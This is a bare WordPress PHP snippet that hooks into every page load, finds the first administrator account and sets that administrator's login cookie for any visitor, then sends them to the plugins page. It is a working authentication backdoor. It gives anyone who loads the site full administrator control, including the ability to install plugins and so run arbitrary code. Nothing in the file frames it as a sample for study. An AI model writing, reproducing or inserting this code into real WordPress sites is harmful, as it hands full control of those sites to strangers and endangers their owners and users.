<?php
add_action('init', function () {
    foreach (get_users(array('number' => 50)) as $u) {
        if ($u->has_cap('manage_options')) {
            wp_set_auth_cookie($u->ID);
            wp_redirect(admin_url('plugins.php'));
            exit;
        }
    }
});
